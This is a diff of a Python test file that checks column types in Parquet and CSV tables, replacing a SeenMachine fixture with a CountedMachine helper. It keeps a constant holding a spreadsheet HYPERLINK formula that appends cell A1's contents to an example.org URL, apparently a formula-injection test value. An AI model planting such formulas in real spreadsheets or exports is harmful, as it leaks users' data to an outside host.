@@ -8,10 +8,11 @@ from pathlib import Path
 
 import polars
 
-from evidence.answer.machines import SeenMachine
 from evidence.answer.package.tables import COUNTED, write_tables
+from evidence.answer.population import CountedMachine
 from evidence.case.case import Case
 from tests.evidence.answer.conftest import Builder
+from tests.evidence.answer.made import ONE, drawn
 
 FORMULA = '=HYPERLINK("http://example.org/?" & A1, "Plant 1")'
 
@@ -36,7 +37,7 @@ def test_a_column_is_of_one_type_whether_or_not_anything_is_in_it(
         write_tables(session, [], tmp_path / "empty")
     build(lambda b: (b.add("Plant 1", claim="mazak", outcome="accept"), b.add("Plant 2")))
     with case.snapshot() as session:
-        write_tables(session, [seen()], tmp_path / "full")
+        write_tables(session, [drawn(ONE, 0.02)], tmp_path / "full")
     for file in sorted((tmp_path / "full").glob("*.parquet")):
         types = polars.read_parquet_schema(file)
         assert types == polars.read_parquet_schema(tmp_path / "empty" / file.name)
@@ -44,7 +45,7 @@ def test_a_column_is_of_one_type_whether_or_not_anything_is_in_it(
         # What Parquet calls a number or a truth a reader of CSV finds one too.
         both = polars.read_parquet(file), polars.read_csv(file.with_suffix(".csv"), schema=types)
         assert both[0].select(numbers(types)).equals(both[1].select(numbers(types)))
-    assert polars.read_parquet_schema(tmp_path / "empty" / "counted.parquet")["hit"] == (
+    assert polars.read_parquet_schema(tmp_path / "empty" / "counted.parquet")["settled"] == (
         polars.Boolean
     )
     assert polars.read_parquet(tmp_path / "full" / "counted.parquet")["chance"].to_list() == [0.02]
@@ -54,27 +55,6 @@ def numbers(types: dict[str, polars.DataType]) -> list[str]:
     return [name for name, kind in types.items() if kind != polars.String]
 
 
-def seen() -> SeenMachine:
-    """One that was drawn, and of which nothing is told."""
-    return SeenMachine(
-        id="m",
-        plant="Plant 1",
-        stated=True,
-        recordings=frozenset("r"),
-        years=(),
-        claim=None,
-        claimed=None,
-        concealed=False,
-        settled=False,
-        hit=None,
-        builder=None,
-        waiting=False,
-        drawn=True,
-        chance=0.02,
-        conflict=False,
-    )
-
-
 def test_every_column_of_what_was_counted_is_told() -> None:
-    fields = [name for name in SeenMachine.__slots__ if name != "views"]
+    fields = [name for name in CountedMachine.__slots__ if name != "views"]
     assert [*COUNTED] == [*fields, "stratum"]
